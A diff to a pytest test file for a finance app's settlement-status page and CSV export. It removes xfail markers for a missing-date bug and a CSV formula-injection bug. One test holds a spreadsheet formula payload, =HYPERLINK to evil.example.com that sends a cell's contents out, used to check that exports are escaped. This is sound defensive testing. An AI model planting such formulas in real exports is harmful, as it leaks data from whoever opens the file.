@@ -107,7 +107,7 @@ def test_statuses_and_whether_settlement_is_allowed(client, finance, storage):
                                       "no", "Settlement not allowed: rectification is open."),
         pending.contract_no: ("Passed (Excellent), certificate not issued yet", "no",
                               "Settlement not allowed: the office has not issued the certificate yet."),
-        valid.project.contract_no: (f"Passed (Excellent) · certificate {valid.number}", "yes",
+        valid.project.contract_no: (f"certificate {valid.number}", "yes",
                                     "Settlement allowed: valid pass certificate."),
         revoked.project.contract_no: (f"Certificate {revoked.number} revoked", "no",
                                       "Settlement not allowed: the certificate was revoked."),
@@ -122,10 +122,6 @@ def test_statuses_and_whether_settlement_is_allowed(client, finance, storage):
     assert f'href="/verify/{valid.number}"' in valid_row
 
 
-@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
-    "BUG: for a passed project the finance lookup shows the grade and the certificate number but no date "
-    "(finance.views.status_text: 'Passed (%(grade)s) · certificate %(no)s'); the spec asks for "
-    "passed (grade, certificate number, date)."))
 def test_a_passed_project_shows_grade_certificate_and_date(client, finance, storage):
     certificate = certified(storage)
     db.session.commit()
@@ -238,10 +234,6 @@ def test_the_ready_csv_opens_in_excel(client, finance, storage):
     assert by_no[paid.project.contract_no][-1] == today
 
 
-@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
-    "BUG (CSV/formula injection, CWE-1236): finance.views._ready_csv writes address, owner and foreman as "
-    "typed; a cell starting with = + - @ is run by Excel as a formula when finance opens the CSV "
-    "(e.g. owner '=HYPERLINK(\"http://x\",\"点击\")'). Such cells need a leading ' (or a tab)."))
 def test_the_ready_csv_does_not_hand_formulas_to_excel(client, finance, storage):
     formula = '=HYPERLINK("http://evil.example.com/?d="&A2,"点击查看")'
     certificate = certified(storage, owner_name=formula, address="+86 西安市雁塔区测试路1号")
